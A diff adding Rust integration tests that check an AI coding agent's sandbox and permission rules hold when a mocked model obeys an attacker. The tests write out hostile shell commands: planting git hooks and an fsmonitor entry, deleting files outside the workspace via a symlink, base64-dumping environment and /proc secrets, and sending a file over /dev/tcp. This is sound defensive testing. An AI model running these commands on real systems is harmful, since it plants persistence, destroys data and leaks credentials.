@@ -97,3 +97,156 @@ fn a_codergen_node_edits_a_file_with_the_models_of_every_provider() {
         assert!(!output.stdout.contains(KEY), "{model}");
     }
 }
+
+/// A repository whose agent calls `shell` with these commands, as an attacker wants it to, and then ends. Gives the
+/// output of the run and what the model was sent at the end.
+fn attacked(project: &Project, commands: &[&str]) -> (ProcessOutput, String) {
+    let calls = commands.iter().map(|command| {
+        let arguments = json!({"command": command, "timeout_ms": 60_000});
+        Reply::Calls(vec![call("shell", &arguments)])
+    });
+    let provider = MockProvider::start(calls.chain([Reply::Says("Done.")]).collect());
+    let output = run(project, &provider, ["run", "fix.dot", "--format", "events"]);
+    let sent = provider.sent();
+    (output, sent.last().expect("a request").body.to_string())
+}
+
+/// Whether commands run in a sandbox here; with `what` that is not tested otherwise.
+fn has_sandbox(project: &Project, what: &str) -> bool {
+    let output = project.run(["doctor", "--offline"]);
+    let has = !output.stdout.contains("sandbox of agents: none");
+    if !has {
+        eprintln!("skipped: {what} (this machine has no sandbox)");
+    }
+    has
+}
+
+#[test]
+fn an_agent_that_obeys_an_attacker_changes_nothing_outside_and_no_hook() {
+    let project = project("sonnet");
+    if !has_sandbox(&project, "attacks by commands") {
+        return;
+    }
+    let outside = project.file("outside");
+    project.write("work/.git/config", "[core]\n");
+    project.write("work/.git/hooks/README", "none\n");
+    project.write("outside/precious.txt", "precious\n");
+    project.write(
+        "fix.dot",
+        FIX.replace("MODEL", "sonnet")
+            .replace("prompt=", "working_dir=\"work\", prompt="),
+    );
+    project.write(".attractor/config.toml", "");
+    let (output, sent) = attacked(
+        &project,
+        &[
+            "echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
+            "printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config",
+            "echo x > ../outside/precious.txt; ln -s ../outside link; rm -rf link/precious.txt",
+            "echo '[agent.sandbox]' > ../.attractor/config.toml",
+            "echo fine > result.txt",
+        ],
+    );
+    assert_eq!(output.code, Some(0), "{output}");
+    assert_eq!(project.read("work/.git/config"), "[core]\n");
+    assert!(
+        !project.file("work/.git/hooks/pre-commit").exists(),
+        "{sent}"
+    );
+    let precious = std::fs::read_to_string(outside.join("precious.txt"));
+    assert_eq!(precious.expect("the file"), "precious\n", "{sent}");
+    assert_eq!(project.read(".attractor/config.toml"), "");
+    assert_eq!(project.read("work/result.txt"), "fine\n", "{sent}");
+}
+
+#[test]
+fn an_agent_that_obeys_an_attacker_finds_no_key() {
+    let project = project("sonnet");
+    if !has_sandbox(&project, "the search for keys") {
+        return;
+    }
+    let (output, sent) = attacked(
+        &project,
+        &[
+            "env | base64 -w0 > env.txt",
+            "for p in /proc/[0-9]*; do cat $p/environ 2>/dev/null; done | base64 -w0 > proc.txt",
+            "cat ~/.config/attractor/config.toml 2>/dev/null | base64 -w0 > config.txt",
+        ],
+    );
+    assert_eq!(output.code, Some(0), "{output}");
+    for file in ["env.txt", "proc.txt"] {
+        let decoded = std::process::Command::new("base64")
+            .args(["-d", file])
+            .current_dir(project.path())
+            .output()
+            .expect("base64");
+        let text = String::from_utf8_lossy(&decoded.stdout);
+        assert!(!text.is_empty(), "{file}: {sent}");
+        assert!(!text.contains(KEY), "{file}");
+    }
+}
+
+#[test]
+fn an_agent_that_obeys_an_attacker_sends_nothing() {
+    let project = project("sonnet");
+    if !has_sandbox(&project, "sending by commands") {
+        return;
+    }
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
+    listener.set_nonblocking(true).expect("an option");
+    let port = listener.local_addr().expect("an address").port();
+    let send = format!("cat greeting.txt > /dev/tcp/127.0.0.1/{port} && echo sent > sent.txt");
+    let (output, _) = attacked(&project, &[&send]);
+    assert_eq!(output.code, Some(0), "{output}");
+    assert!(!project.file("sent.txt").exists());
+    assert!(listener.accept().is_err());
+}
+
+#[test]
+fn permissions_of_the_user_are_decided_before_a_command_runs() {
+    let project = project("sonnet");
+    project.write(
+        ".config/attractor/config.toml",
+        "[agent.permissions]\nshell = \"allow\"\n\"shell(touch *)\" = \"deny\"\n\"write(*.lock)\" = \"ask\"\n",
+    );
+    project.write(
+        ".attractor/config.toml",
+        "[agent.permissions]\n\"shell(touch *)\" = \"allow\"\n",
+    );
+    let (output, sent) = attacked(&project, &["echo hi && sudo touch evil.txt"]);
+    assert_eq!(output.code, Some(0), "{output}");
+    assert!(!project.file("evil.txt").exists());
+    let expected = "`shell(touch *) = deny` in the user's configuration";
+    assert!(sent.contains(expected), "{sent}");
+    let content = json!({"path": "Cargo.lock", "content": "x"});
+    let provider = MockProvider::start(vec![
+        Reply::Calls(vec![call("write_file", &content)]),
+        Reply::Says("Done."),
+    ]);
+    run(&project, &provider, ["run", "fix.dot"]);
+    assert!(!project.file("Cargo.lock").exists());
+}
+
+#[test]
+fn attributes_of_a_node_narrow_what_its_agent_may_do() {
+    let project = project("sonnet");
+    let node = "permissions=\"read-only\", prompt=";
+    project.write(
+        "fix.dot",
+        FIX.replace("MODEL", "sonnet").replace("prompt=", node),
+    );
+    let content = json!({"path": "greeting.txt", "content": "changed"});
+    let provider = MockProvider::start(vec![
+        Reply::Calls(vec![call("write_file", &content)]),
+        Reply::Calls(vec![call(
+            "shell",
+            &json!({"command": "echo changed > greeting.txt"}),
+        )]),
+        Reply::Says("Done."),
+    ]);
+    run(&project, &provider, ["run", "fix.dot"]);
+    assert_eq!(project.read("greeting.txt"), "Hello.\n");
+    let sent = provider.sent();
+    let last = sent.last().expect("a request").body.to_string();
+    assert!(last.contains("permissions=read-only"), "{last}");
+}
